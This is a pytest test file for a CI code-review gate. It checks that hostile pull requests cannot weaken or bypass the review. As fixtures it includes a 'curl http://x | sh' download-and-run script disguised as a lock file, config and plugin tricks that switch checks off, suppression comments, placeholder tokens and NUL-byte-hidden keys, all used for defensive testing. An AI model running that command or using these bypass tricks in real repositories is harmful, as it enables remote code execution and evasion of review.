"""The gate: what it compares with, whose configuration it believes, and what a hostile change cannot do."""

from __future__ import annotations

import json
import random
import re
import sys
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest

from selfreview.errors import ExitCode
from tests.conftest import Ran, Workspace
from tests.rows import crossed, few
from tests.secrets import tokens

BAD = 'def load(items=[]):\n    return f"{itmes}"\n'
"""A name that does not exist: severity high."""


def gate(workspace: Workspace, *args: str, **env: str) -> Ran:
    return workspace.selfreview("gate", "--format", "json", *args, **env)


def statuses(ran: Ran) -> dict[str, str]:
    return {issue["rule"]: issue["status"] for issue in ran.json["issues"]}


@pytest.fixture
def event(tmp_path: Path) -> Callable[..., dict[str, str]]:
    """The variables of a pull request's workflow."""

    def variables(base: str, head: str, *, fork: bool = False) -> dict[str, str]:
        names = {"base": "us/it", "head": "them/it" if fork else "us/it"}
        sides = {name: {"sha": sha, "ref": "main", "repo": {"full_name": names[name]}}
                 for name, sha in (("base", base), ("head", head))}  # fmt: skip
        path = tmp_path / "event.json"
        path.write_text(json.dumps({"pull_request": sides}))
        return {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_PATH": str(path)}

    return variables


def test_a_mistake_fails_it_and_a_clean_change_passes(workspace: Workspace) -> None:
    workspace.commit("clean", **{"app.py": "LIMIT = 3\n"})
    clean = gate(workspace, "--base", "main")
    workspace.commit("bad", **{"app.py": BAD})
    bad = gate(workspace, "--base", "main")
    assert (clean.code, bad.code) == (ExitCode.PASSED, ExitCode.ISSUES)
    assert bad.json["scope"]["mode"] == "head"


def test_only_commits_are_reviewed_and_nothing_is_edited(workspace: Workspace) -> None:
    workspace.commit("clean", **{"app.py": "LIMIT = 3\n"})
    workspace.write("app.py", BAD)
    workspace.write("other.py", BAD)
    before = workspace.git("status", "--porcelain")
    assert gate(workspace, "--base", "main").code == ExitCode.PASSED
    assert workspace.git("status", "--porcelain") == before
    assert (workspace.root / "app.py").read_text() == BAD


def test_it_does_not_guess_its_base(workspace: Workspace) -> None:
    workspace.commit("bad", **{"app.py": BAD})
    ran = gate(workspace)
    assert ran.code == ExitCode.USAGE
    assert "--base REF" in ran.err


def test_a_pull_request_is_compared_with_its_base(workspace: Workspace, event: Callable[..., dict[str, str]]) -> None:
    base = workspace.git("rev-parse", "main")
    head = workspace.commit("bad", **{"app.py": BAD})
    ran = gate(workspace, **event(base, head))
    assert ran.code == ExitCode.ISSUES
    assert ran.json["scope"]["base"] == base


def test_a_merge_made_by_ci_is_compared_with_the_base_that_it_merged(
    workspace: Workspace, event: Callable[..., dict[str, str]]
) -> None:
    """The base moved on after the event: what others wrote there is not this change's."""
    base = workspace.git("rev-parse", "main")
    head = workspace.commit("clean", **{"app.py": "LIMIT = 3\n"})
    workspace.git("switch", "-q", "main")
    theirs = workspace.commit("theirs", **{"theirs.py": BAD})
    workspace.git("update-ref", "refs/remotes/origin/main", theirs)
    workspace.git("switch", "-q", "--detach")
    workspace.git("merge", "-q", "--no-ff", "-m", "merge", head)
    ran = gate(workspace, **event(base, head))
    assert ran.code == ExitCode.PASSED
    assert ran.json["scope"]["base"] == theirs
    assert ran.json["scope"]["files"] == 1


def test_what_is_checked_out_has_to_be_the_pull_request(
    workspace: Workspace, event: Callable[..., dict[str, str]]
) -> None:
    """Under ``pull_request_target`` it is the base, whose change against itself is empty."""
    base = workspace.git("rev-parse", "main")
    head = workspace.commit("bad", **{"app.py": BAD})
    workspace.git("switch", "-q", "--detach", "main")
    for args in ([], ["--base", "main"]):
        ran = gate(workspace, *args, **event(base, head))
        assert (ran.code, "does not hold" in ran.err) == (ExitCode.USAGE, True), ran


def test_a_base_that_is_not_in_the_clone_says_how_to_get_it(
    workspace: Workspace, event: Callable[..., dict[str, str]]
) -> None:
    head = workspace.commit("bad", **{"app.py": BAD})
    ran = gate(workspace, **event("a" * 40, head))
    assert ran.code == ExitCode.USAGE
    assert "fetch-depth: 0" in ran.err


def test_the_threshold_of_the_command_line_counts(workspace: Workspace) -> None:
    workspace.commit("bad", **{"app.py": BAD})
    assert gate(workspace, "--base", "main", "--fail-on", "never").code == ExitCode.PASSED


def test_a_maintainer_accepts_by_fingerprint(workspace: Workspace) -> None:
    workspace.commit("bad", **{"app.py": BAD})
    first = gate(workspace, "--base", "main")
    prints = [issue["fingerprint"] for issue in first.json["issues"] if issue["status"] == "open"]
    assert prints
    ran = gate(workspace, "--base", "main", *(word for name in prints for word in ("--accept", name)))
    assert ran.code == ExitCode.PASSED
    assert set(statuses(ran).values()) == {"accepted"}


def test_the_log_says_how_to_let_an_issue_pass_and_that_nobody_told_of_a_fork(workspace: Workspace) -> None:
    workspace.commit("bad", **{"app.py": BAD})
    ran = gate(workspace, "--base", "main")
    assert "gate --accept FINGERPRINT" in ran.err
    assert "it is not known whether this change comes from a fork, so it is treated as a fork's" in ran.err
    told = workspace.selfreview("gate", SELFREVIEW_CI_BASE="main", SELFREVIEW_CI_FORK="false")
    assert "nobody says" not in told.err


@pytest.mark.parametrize(
    ("name", "count"),
    crossed(["terminal", "concise", "github", "markdown"], {str(count): count for count in (1, 3, 25)}),
)
def test_the_way_to_let_an_issue_pass_is_named_once(workspace: Workspace, name: str, count: int) -> None:
    workspace.commit(
        "bad",
        **{
            "app.py": "".join(f"def f{n}():\n    return missing_{n}\n\n\n" for n in range(count)),
            ".gitattributes": "*.txt filter=x\n",
        },
    )
    ran = workspace.selfreview("gate", "--base", "main", "--format", name)
    assert ran.code == ExitCode.ISSUES, ran
    assert (ran.out + ran.err).count("--accept") == 1
    [hint] = [line for line in ran.err.splitlines() if "--accept" in line]
    shown = re.findall(r"v1:[0-9a-f]{32}", ran.err)
    assert shown == re.findall(r"v1:[0-9a-f]{32}", hint)
    assert len(shown) == min(count + 1, 3)  # with what the gate says of .gitattributes
    more = gate(workspace, "--base", "main", *(word for mark in shown for word in ("--accept", mark)))
    assert sum(1 for issue in more.json["issues"] if issue["status"] == "accepted") == len(shown)
    assert ("more in --format json:FILE" in hint) == (count + 1 > 3)


@pytest.mark.parametrize("change", [{"app.py": "x = 1\n"}, {"app.py": "import os\n"}])
def test_where_nothing_blocks_no_way_around_it_is_named(workspace: Workspace, change: dict[str, str]) -> None:
    workspace.commit("good", **change)
    ran = workspace.selfreview("gate", "--base", "main")
    assert ran.code == ExitCode.PASSED, ran
    assert "--accept" not in ran.out + ran.err


def test_who_accepts_an_issue_and_what_was_merged_into_it_passes(workspace: Workspace) -> None:
    """Ruff and the rules report the same here, as one issue; what was merged has a fingerprint of its own."""
    workspace.commit(
        "bad", **{"app.py": "def find(db, name):\n    return db.execute(f\"SELECT a FROM b WHERE c = '{name}'\")\n"}
    )
    first = gate(workspace, "--base", "main")
    assert "duplicate" in statuses(first).values()
    prints = [issue["fingerprint"] for issue in first.json["issues"] if issue["status"] in ("open", "duplicate")]
    again = gate(workspace, "--base", "main", *(word for mark in prints for word in ("--accept", mark)))
    assert again.code == ExitCode.PASSED, again
    assert not [note for note in again.json["notes"] if "matches no issue" in note]


def test_an_id_is_refused_with_the_reason(workspace: Workspace) -> None:
    ran = gate(workspace, "--base", "main", "--accept", "sr-12345678")
    assert ran.code == ExitCode.USAGE
    assert "give v1: and 32 hex digits" in ran.err


def test_an_acceptance_in_vain_is_told(workspace: Workspace) -> None:
    workspace.commit("bad", **{"app.py": BAD})
    ran = gate(workspace, "--base", "main", "--accept", "v1:" + "0" * 32)
    assert ran.code == ExitCode.ISSUES
    assert any("matches no issue" in note for note in ran.json["notes"])
    for wrong in ("", "v1:", "sr-12345678"):
        assert gate(workspace, "--base", "main", "--accept", wrong).code == ExitCode.USAGE


def test_what_a_person_accepted_locally_does_not_count(workspace: Workspace) -> None:
    workspace.commit("bad", **{"app.py": BAD})
    for issue in workspace.review("--no-fix")["issues"]:
        assert workspace.selfreview("accept", issue["id"], "--reason", "mine").code == 0
    assert workspace.selfreview("run", "--no-fix").code == ExitCode.PASSED
    assert gate(workspace, "--base", "main").code == ExitCode.ISSUES


def test_a_reviewer_that_is_required_and_missing_makes_it_incomplete(workspace: Workspace) -> None:
    workspace.commit("clean", **{"app.py": "LIMIT = 3\n"})
    ran = gate(workspace, "--base", "main", "--require", "claude")
    assert ran.code == ExitCode.INCOMPLETE
    assert any("claude" in reason for reason in ran.json["incompleteReasons"])


@pytest.mark.parametrize("where", ["base", "option", "environment"])
def test_an_incomplete_review_never_only_warns(workspace: Workspace, where: str) -> None:
    if where == "base":
        workspace.git("switch", "-q", "main")
        workspace.commit("settings", **{"selfreview.toml": settings(on_incomplete="warn")})
        workspace.git("switch", "-q", "work")
        workspace.git("merge", "-q", "main")
    workspace.commit("clean", **{"app.py": "LIMIT = 3\n"})
    args = ["-o", "on_incomplete=warn"] if where == "option" else []
    env = {"SELFREVIEW_ON_INCOMPLETE": "warn"} if where == "environment" else {}
    assert gate(workspace, "--base", "main", "--require", "claude", *args, **env).code == ExitCode.INCOMPLETE


# --- hostile changes -------------------------------------------------------------------------------------------------


def settings(**values: Any) -> str:
    return "".join(f"{name} = {json.dumps(value)}\n" for name, value in values.items())


HOSTILE: Mapping[str, Mapping[str, str]] = {
    "threshold": {"selfreview.toml": settings(severity_threshold="never")},
    "switched off": {"selfreview.toml": settings(enabled=False)},
    "pyproject": {"pyproject.toml": '[tool.selfreview]\nseverity_threshold = "never"\n'},
    "base": {"selfreview.toml": settings(base="work")},
    "excluded": {"selfreview.toml": settings(exclude=["*.py"])},
    "another reviewer": {"selfreview.toml": settings(reviewers=["text"])},
    "incomplete is fine": {"selfreview.toml": settings(on_incomplete="warn")},
    "settings that are none": {"selfreview.toml": "]["},
    "ruff ignores": {"ruff.toml": '[lint]\nignore = ["F", "B"]\n'},
    "ruff excludes": {"pyproject.toml": '[tool.ruff]\nexclude = ["app.py"]\nforce-exclude = true\n'},
    "a plugin": {"selfreview_conf.py": "import os\nos._exit(0)\n"},
    "generated": {".gitattributes": "*.py linguist-generated\n"},
    "vendored": {".gitattributes": "*.py linguist-vendored=true\n"},
    "no text": {".gitattributes": "*.py -diff\n"},
    "binary": {".gitattributes": "*.py binary\n"},
}


@pytest.mark.parametrize(
    "files",
    [
        {"app.py": "# ruff: noqa\n" + BAD},
        {"ok.sh": "#!/bin/sh\n# shellcheck disable=SC2086\necho $1\n"},
    ],
    ids=lambda files: next(iter(files)),
)
def test_what_a_change_says_of_itself_hides_nothing(workspace: Workspace, files: Mapping[str, str]) -> None:
    """Nobody says that the change is the repository's own, so it could come from anyone."""
    workspace.commit("bad", **files)
    ran = gate(workspace, "--base", "main")
    assert ran.code == ExitCode.ISSUES, ran
    assert any(issue["file"] == next(iter(files)) and issue["status"] == "open" for issue in ran.json["issues"])


def test_code_that_is_moved_to_an_excluded_name_is_reviewed(workspace: Workspace) -> None:
    workspace.git("switch", "-q", "main")
    workspace.commit("settings", **{"selfreview.toml": settings(exclude=["*.gen.py"]), "app.py": "LIMIT = 3\n" * 20})
    workspace.git("switch", "-q", "work")
    workspace.git("merge", "-q", "main")
    workspace.git("mv", "app.py", "app.gen.py")
    workspace.commit("bad", **{"app.gen.py": "LIMIT = 3\n" * 20 + BAD})
    assert gate(workspace, "--base", "main").code == ExitCode.ISSUES


@pytest.mark.parametrize(
    ("files", "rule"),
    [
        ({"app.py": "import os  # noqa: F401\n"}, "suppression"),
        ({"selfreview.toml": settings(severity_threshold="never")}, "own-configuration"),
        ({"ruff.toml": "line-length = 100\n"}, "tool-configuration"),
        ({".github/workflows/test.yml": "on: push\n"}, "ci-workflow"),
    ],
)
def test_what_an_honest_change_says_of_itself_is_listed_and_does_not_block(
    workspace: Workspace, event: Callable[..., dict[str, str]], files: Mapping[str, str], rule: str
) -> None:
    base = workspace.git("rev-parse", "main")
    head = workspace.commit("honest", **files)
    ran = gate(workspace, "--reviewer", "ruff", **event(base, head))
    assert ran.code == ExitCode.PASSED, ran
    assert [(issue["rule"], issue["status"]) for issue in ran.json["issues"]] == [(rule, "open")]
    assert gate(workspace, "--reviewer", "ruff", **event(base, head, fork=True)).code == (
        ExitCode.ISSUES if rule == "suppression" else ExitCode.PASSED
    )


def test_a_base_can_say_that_nothing_of_itself_counts(
    workspace: Workspace, event: Callable[..., dict[str, str]]
) -> None:
    workspace.git("switch", "-q", "main")
    base = workspace.commit("settings", **{"selfreview.toml": settings(self_suppressions="ignore")})
    workspace.git("switch", "-q", "work")
    workspace.git("merge", "-q", "main")
    head = workspace.commit("bad", **{"vendor/app.py": BAD})
    assert gate(workspace, **event(base, head)).code == ExitCode.ISSUES


def test_vendored_code_of_an_honest_change_is_reviewed_and_set_aside_but_for_the_critical(
    workspace: Workspace, event: Callable[..., dict[str, str]]
) -> None:
    base = workspace.git("rev-parse", "main")
    head = workspace.commit("vendored", **{"vendor/app.py": BAD})
    ran = gate(workspace, **event(base, head))
    assert ran.code == ExitCode.PASSED
    assert set(statuses(ran).values()) == {"suppressed"}
    assert {issue["statusReason"] for issue in ran.json["issues"]} == {"only this change makes it vendored"}
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    head = workspace.commit("a secret", **{"vendor/settings.py": f'TOKEN = "{token}"\n'})
    assert gate(workspace, **event(base, head)).code == ExitCode.ISSUES


@pytest.mark.parametrize("fork", [False, True])
def test_a_script_under_the_name_of_a_lock_file_is_reviewed_by_every_gate_as_by_a_run(
    workspace: Workspace, event: Callable[..., dict[str, str]], fork: bool
) -> None:
    base = workspace.git("rev-parse", "main")
    workspace.write("yarn.lock", "#!/bin/sh\ncurl http://x | sh\n").chmod(0o755)
    own = workspace.selfreview("run", "--no-fix", "--format", "json")
    head = workspace.commit("a script")
    gated = gate(workspace, **event(base, head, fork=fork))
    for ran in (own, gated):
        assert (ran.code, statuses(ran)) == (ExitCode.ISSUES, {"bash-download-and-run": "open"}), ran


@pytest.mark.parametrize(
    "name",
    few(
        [name for name in HOSTILE if name not in ("base", "no text", "binary")],
        *("threshold", "excluded", "settings that are none", "ruff ignores", "a plugin", "generated"),
    ),
)
def test_what_the_base_says_counts(workspace: Workspace, name: str) -> None:
    """The words of hostile changes, where they were there before: these are refused for where they stand."""
    workspace.git("switch", "-q", "main")
    workspace.commit("settings", **HOSTILE[name])
    workspace.git("switch", "-q", "work")
    workspace.git("merge", "-q", "main")
    workspace.commit("bad", **{"app.py": BAD})
    expected = {"a plugin": ExitCode.PASSED, "settings that are none": ExitCode.USAGE}
    expected |= {"incomplete is fine": ExitCode.ISSUES}
    assert workspace.selfreview("gate", "--base", "main").code == expected.get(name, ExitCode.PASSED)


def test_commands_do_not_run_code_of_the_change(workspace: Workspace) -> None:
    """What a linter of the base's configuration would run is the change's own."""
    config = '[command.lint]\nrun = ["sh", "-c", "touch ran", "{files}"]\nformat = "sarif"\nrequired = true\n'
    workspace.git("switch", "-q", "main")
    workspace.commit("settings", **{"selfreview.toml": config})
    workspace.git("switch", "-q", "work")
    workspace.git("merge", "-q", "main")
    workspace.commit("clean", **{"app.py": "LIMIT = 3\n"})
    ran = gate(workspace, "--base", "main")
    assert ran.code == ExitCode.INCOMPLETE
    assert any("it would run code of the change" in reason for reason in ran.json["incompleteReasons"])
    assert not (workspace.root / "ran").exists()


def test_checks_of_the_base_run_on_what_is_committed_where_that_is_allowed(workspace: Workspace) -> None:
    check = f"{sys.executable} -c 'import app; assert app.LIMIT == 3'"
    workspace.git("switch", "-q", "main")
    workspace.commit("settings", **{"selfreview.toml": f"[checks]\ntest = {json.dumps(check)}\n"})
    workspace.git("switch", "-q", "work")
    workspace.git("merge", "-q", "main")
    workspace.commit("wrong", **{"app.py": "LIMIT = 4\n", "selfreview.toml": ""})
    workspace.write("app.py", "LIMIT = 3\n")
    without, allowed = gate(workspace, "--base", "main"), gate(workspace, "--base", "main", "--allow-head-code")
    (report,) = [report for report in without.json["reviewers"] if report["name"] == "check-test"]
    assert (without.code, report["status"], report["hint"]) == (
        ExitCode.PASSED, "skipped", "gate --allow-head-code allows that"
    )  # fmt: skip
    assert allowed.code == ExitCode.ISSUES
    assert statuses(allowed)["test"] == "open"
    workspace.commit("right", **{"app.py": "LIMIT = 3\n"})
    workspace.write("app.py", "LIMIT = 4\n")
    assert gate(workspace, "--base", "main", "--allow-head-code").code == ExitCode.PASSED


def test_a_check_that_the_base_insists_on_and_that_may_not_run_makes_it_incomplete(workspace: Workspace) -> None:
    workspace.git("switch", "-q", "main")
    workspace.commit("settings", **{"selfreview.toml": '[checks.test]\nrun = "true"\nrequired = true\n'})
    workspace.git("switch", "-q", "work")
    workspace.git("merge", "-q", "main")
    workspace.commit("clean", **{"app.py": "LIMIT = 3\n"})
    assert gate(workspace, "--base", "main").code == ExitCode.INCOMPLETE


BREAKING = {
    "no TOML": {"selfreview.toml": "]["},
    "an unknown key": {"selfreview.toml": "nonsense_key = 1\n"},
    "a wrong value": {"pyproject.toml": '[tool.selfreview]\nseverity_threshold = "x"\n'},
    "a pattern that is none": {"selfreview.toml": 'exclude = ["[z-a]"]\n'},
    "a pattern without an end": {"selfreview.toml": 'exclude = ["*?*?*?*?*?*?*?*?*?*?*?Q"]\n'},
    "code": {"selfreview_conf.py": "def (\n"},
    "a reviewer that is not there": {"selfreview.toml": 'reviewers = ["auto", "ruf"]\n'},
    "one that is required": {"pyproject.toml": '[tool.selfreview]\nrequired_reviewers = ["ruf"]\n'},
    "the baseline": {"selfreview-baseline.toml": "]["},
    "the baseline, by its depth": {"selfreview-baseline.toml": "x = " + "[" * 100_000},
    "the baseline, by its digits": {"selfreview-baseline.toml": f"version = 0x{'f' * 9_000}\n"},
}


@pytest.mark.parametrize("name", few([*BREAKING], "no TOML", "code", "one that is required", "the baseline"))
def test_a_change_that_breaks_the_settings_is_stopped_and_one_that_mends_them_is_not(
    workspace: Workspace, name: str
) -> None:
    workspace.commit("break", **BREAKING[name])
    ran = gate(workspace, "--base", "main")
    assert ran.code == ExitCode.ISSUES
    assert [issue["severity"] for issue in ran.json["issues"] if issue["rule"] == "broken-settings"] == ["critical"]
    workspace.git("branch", "-f", "main")
    assert gate(workspace, "--base", "main").code == ExitCode.USAGE
    (workspace.root / next(iter(BREAKING[name]))).write_text("")
    of_baseline = name.startswith("the baseline")
    if of_baseline:
        (workspace.root / "selfreview-baseline.toml").write_text("version = 1\n")
    workspace.commit("mend", **{"app.py": "LIMIT = 3\n"})
    mended = gate(workspace, "--base", "main")
    assert mended.code == ExitCode.PASSED
    assert any("the base's" in note for note in mended.json["notes"])
    own = [issue["description"] for issue in mended.json["issues"] if issue["rule"] == "own-configuration"]
    assert own
    assert ["what loads of the base" in text for text in own] == [not of_baseline] * len(own)
    workspace.commit("bad", **{"app.py": BAD + "# selfreview: ignore-file[ruff] because\n"})
    loose = gate(workspace, "--base", "main", SELFREVIEW_CI_FORK="false", SELFREVIEW_CI_BASE="main")
    assert (loose.code, name) == (loose.code if of_baseline else ExitCode.ISSUES, name)


UNMET = {
    "a check": '[checks.x]\nrun = "true"\nrequired = true\n',
    "a command": '[command.x]\nrun = ["true"]\nformat = "sarif"\nrequired = true\n',
    "a tool": 'required_reviewers = ["semgrep"]\n',
}


@pytest.mark.parametrize("name", few([*UNMET], "a check", "a tool"))
def test_a_change_that_requires_what_no_gate_can_have_is_stopped(workspace: Workspace, name: str) -> None:
    workspace.commit("demand", **{"selfreview.toml": UNMET[name]})
    ran = gate(workspace, "--base", "main")
    (issue,) = [issue for issue in ran.json["issues"] if issue["rule"] == "broken-settings"]
    assert (ran.code, issue["severity"]) == (ExitCode.ISSUES, "critical")
    assert "is required" in issue["description"]
    workspace.git("branch", "-f", "main")
    workspace.commit("more", **{"selfreview.toml": f"# more\n{UNMET[name]}"})
    later = gate(workspace, "--base", "main")
    assert not [issue for issue in later.json["issues"] if issue["rule"] == "broken-settings"]


def test_a_required_check_breaks_nothing_where_it_may_run(workspace: Workspace) -> None:
    workspace.commit("demand", **{"selfreview.toml": UNMET["a check"]})
    ran = gate(workspace, "--base", "main", "--allow-head-code")
    assert not [issue for issue in ran.json["issues"] if issue["rule"] == "broken-settings"]


@pytest.mark.parametrize(
    "files",
    [
        {"selfreview.toml": 'reviewers = ["auto", "mine"]\n[command.mine]\nrun = ["true"]\nformat = "sarif"\n'},
        {"selfreview.toml": 'reviewers = ["auto", "mine"]\n', "selfreview_conf.py": "# may register it\n"},
        {"selfreview.toml": 'reviewers = ["auto", "agent-mine"]\n[agents.mine]\nrun = ["true"]\n'},
    ],
    ids=["a command", "a local plugin", "an agent"],
)
def test_a_reviewer_that_the_change_itself_brings_breaks_nothing(workspace: Workspace, files: dict[str, str]) -> None:
    workspace.commit("bring", **files)
    ran = gate(workspace, "--base", "main")
    assert not [issue for issue in ran.json["issues"] if issue["rule"] == "broken-settings"], ran.json["issues"]


def test_what_no_setting_of_the_repository_breaks_is_an_error(workspace: Workspace) -> None:
    workspace.commit("clean", **{"app.py": "LIMIT = 3\n"})
    assert gate(workspace, "--base", "main", "-o", "nonsense_key=1").code == ExitCode.USAGE


@pytest.mark.parametrize("path", few(["vendor/a.py", "a_pb2.py", "marked.py"], "vendor/a.py"))
def test_what_the_base_has_as_foreign_is_reviewed_where_a_fork_changes_it(
    workspace: Workspace, event: Callable[..., dict[str, str]], path: str
) -> None:
    text = "# Code generated by hand. DO NOT EDIT\n" * (path == "marked.py") + "LIMIT = 3\n" * 20
    workspace.git("switch", "-q", "main")
    base = workspace.commit("vendored", **{path: text})
    workspace.git("switch", "-q", "work")
    workspace.git("merge", "-q", "main")
    honest = workspace.commit("update", **{path: text + "MORE = 4\n"})
    assert gate(workspace, **event(base, honest, fork=True)).code == ExitCode.PASSED
    head = workspace.commit("bad", **{path: text + BAD})
    assert gate(workspace, **event(base, head)).code == ExitCode.PASSED
    ran = gate(workspace, **event(base, head, fork=True))
    assert (ran.code, statuses(ran)["F821"]) == (ExitCode.ISSUES, "open")


@pytest.mark.parametrize("path", ["vendor/a.py", "a.gen.py"])
def test_what_leaves_a_name_that_nobody_reviews_is_reviewed_as_a_whole(
    workspace: Workspace, event: Callable[..., dict[str, str]], path: str
) -> None:
    workspace.git("switch", "-q", "main")
    files = {path: "LIMIT = 3\n" * 20 + BAD, "selfreview.toml": settings(exclude=["*.gen.py"])}
    base = workspace.commit("vendored", **files)
    workspace.git("switch", "-q", "work")
    workspace.git("merge", "-q", "main")
    workspace.git("mv", path, "app.py")
    workspace.git("commit", "-q", "-m", "move")
    ran = gate(workspace, **event(base, workspace.git("rev-parse", "HEAD"), fork=True))
    assert (ran.code, statuses(ran)["F821"]) == (ExitCode.ISSUES, "open")


@pytest.mark.parametrize("fork", [True, False])
@pytest.mark.parametrize("executable", [True, False])
def test_a_script_is_no_lock_file_whatever_its_name(
    workspace: Workspace, event: Callable[..., dict[str, str]], fork: bool, executable: bool
) -> None:
    workspace.git("switch", "-q", "main")
    base = workspace.commit("lock", **{"uv.lock": "version = 1\n"})
    workspace.git("switch", "-q", "work")
    workspace.git("merge", "-q", "main")
    (workspace.root / "uv.lock").write_text(f"#!/usr/bin/env python3\n{BAD}")
    (workspace.root / "uv.lock").chmod(0o755 if executable else 0o644)
    head = workspace.commit("script", **{"poetry.lock": "version = 1\n"})
    ran = gate(workspace, **event(base, head, fork=fork))
    assert "uv.lock" not in [each["path"] for each in ran.json["coverage"]["excluded"]]
    if executable:
        assert (ran.code, statuses(ran)["F821"]) == (ExitCode.ISSUES, "open")


def test_what_changes_in_a_lock_file_is_not_reviewed(
    workspace: Workspace, event: Callable[..., dict[str, str]]
) -> None:
    workspace.git("switch", "-q", "main")
    base = workspace.commit("lock", **{"uv.lock": "version = 1\n"})
    workspace.git("switch", "-q", "work")
    workspace.git("merge", "-q", "main")
    (workspace.root / "uv.lock").chmod(0o755)
    head = workspace.commit("update", **{"uv.lock": "version = 2\n"})
    ran = gate(workspace, **event(base, head, fork=True))
    assert (ran.code, [each["path"] for each in ran.json["coverage"]["excluded"]]) == (ExitCode.PASSED, ["uv.lock"])


def test_a_nul_byte_hides_neither_a_key_nor_settings(workspace: Workspace) -> None:
    key = tokens.pem(random.Random(7)).encode()
    files = {"k.pem": key.decode().encode("utf-16"), "k.bin": b"\0" + key, ".gitattributes": b"*.py binary\n#\0\n",
             "setup.cfg": b"[mypy]\nignore_errors = true\n#\0\n"}  # fmt: skip
    for name, data in files.items():
        (workspace.root / name).write_bytes(data)
    workspace.git("add", "--all")
    workspace.git("commit", "-q", "-m", "hidden")
    found = {(issue["file"], issue["rule"]) for issue in gate(workspace, "--base", "main").json["issues"]}
    assert found >= {("k.pem", "private-key"), ("k.bin", "private-key"), (".gitattributes", "own-configuration"),
                     ("setup.cfg", "tool-configuration")}  # fmt: skip


_SOURCE_MAP = json.dumps({"version": 3, "sourcesContent": ["/*eslint func-names:0*/ // eslint-disable-next-line\n"]})
ABSENT = "The change silences tools that take no part in this review: "


@pytest.mark.parametrize(
    ("path", "text", "said"),
    [
        ("a.py", "x: str = 3  # type: ignore[assignment]\n", ABSENT + "`# type: ignore[assignment]` (line 1)."),
        (
            "A.java",
            '@SuppressWarnings("unchecked")\nclass A {}\n',
            f'{ABSENT}`@SuppressWarnings("unchecked")` (line 1).',
        ),
        ("lib.rs", "#![allow(dead_code)]\nfn f() {}\n", ABSENT + "`#![allow(dead_code)` (line 1)."),
        ("a.rb", "# :nocov:\nputs 1\n", ABSENT + "`:nocov:` (line 1)."),
        ("dist/a.js.map", _SOURCE_MAP, None),
        ("a.json", _SOURCE_MAP, None),
    ],
)
def test_a_mark_of_a_tool_that_takes_no_part_is_listed(
    workspace: Workspace, path: str, text: str, said: str | None
) -> None:
    workspace.commit("marks", **{path: text})
    ran = gate(workspace, "--base", "main")
    told = [(i["severity"], i["description"]) for i in ran.json["issues"] if i["rule"] == "suppression"]
    assert (ran.code, told) == (ExitCode.PASSED, [("low", said)] if said else [])


def test_a_mark_of_a_tool_that_reviews_the_file_blocks_beside_others(workspace: Workspace) -> None:
    workspace.commit("marks", **{"a.py": "x: str = 3  # type: ignore\ny = eval(x)  # noqa: S307\n"})
    ran = gate(workspace, "--base", "main", "--reviewer", "ruff")
    (issue,) = (i for i in ran.json["issues"] if i["rule"] == "suppression")
    assert (ran.code, issue["severity"]) == (ExitCode.ISSUES, "high")
    assert issue["description"] == (
        f"The change silences ruff in its own review: `# noqa: S307` (line 2). {ABSENT}`# type: ignore` (line 1)."
    )


@pytest.mark.parametrize(
    "table", ['[command.types]\nrun = ["true"]\nformat = "sarif"\n', '[checks.types]\nrun = "true"\n']
)
def test_any_mark_blocks_where_nobody_knows_which_tools_look_at_the_change(workspace: Workspace, table: str) -> None:
    workspace.git("switch", "-q", "main")
    workspace.commit("settings", **{"selfreview.toml": table})
    workspace.git("switch", "-q", "work")
    workspace.git("merge", "-q", "main")
    workspace.commit("marks", **{"a.py": "x: str = 3  # type: ignore\n"})

    def severity(*args: str) -> list[str]:
        ran = gate(workspace, "--base", "main", *args)
        return [i["severity"] for i in ran.json["issues"] if i["rule"] == "suppression"]

    assert (severity(), severity("--allow-head-code")) == (["low"], ["high"])


def test_a_mark_that_is_told_in_part_tells_no_part_of_a_secret(workspace: Workspace) -> None:
    token = tokens.FORMATS["github-fine-grained-pat"](random.Random(8))
    workspace.commit("mark", **{"app.py": f"LIMIT = 3  # mypy: {token}\n"})
    ran = gate(workspace, "--base", "main")
    (said,) = (issue["description"] for issue in ran.json["issues"] if issue["rule"] == "suppression")
    assert "# mypy: " in said
    assert token[:20] not in ran.stdout


@pytest.mark.parametrize("path", few(["Makefile", "a.toml", "a.conf"], "a.toml"))
def test_a_text_in_quotes_is_no_comment(workspace: Workspace, path: str) -> None:
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    for begin in ("NAME = ", "  ", ""):
        workspace.commit("bad", **{path: f'{begin}"selfreview: ignore-file[secrets] because"\nTOKEN = "{token}"\n'})
        ran = gate(workspace, SELFREVIEW_CI_BASE="main", SELFREVIEW_CI_FORK="false")
        assert [issue["statusReason"] for issue in ran.json["issues"] if issue["reviewer"] == "secrets"] == [None]


def test_a_tool_that_is_required_and_not_installed_makes_it_incomplete_where_it_would_take_a_file(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also semgrep, which without rules has nothing to do."""
    monkeypatch.setattr(
        "selfreview.reviewers.tools.program.find_program", lambda name: None
    )  # also beside the interpreter
    workspace.commit("clean", **{"app.py": "LIMIT = 3\n"})
    required = ("--require", "semgrep", "--require", "hadolint")
    ran = workspace.run_inprocess("gate", "--format", "json", "--base", "main", *required)
    reasons = ran.json.get("incompleteReasons", [])
    assert (ran.exit_code, any("semgrep is not installed" in one for one in reasons)) == (ExitCode.INCOMPLETE, True)
    assert "hadolint is required, and had nothing to review" in ran.json["notes"]
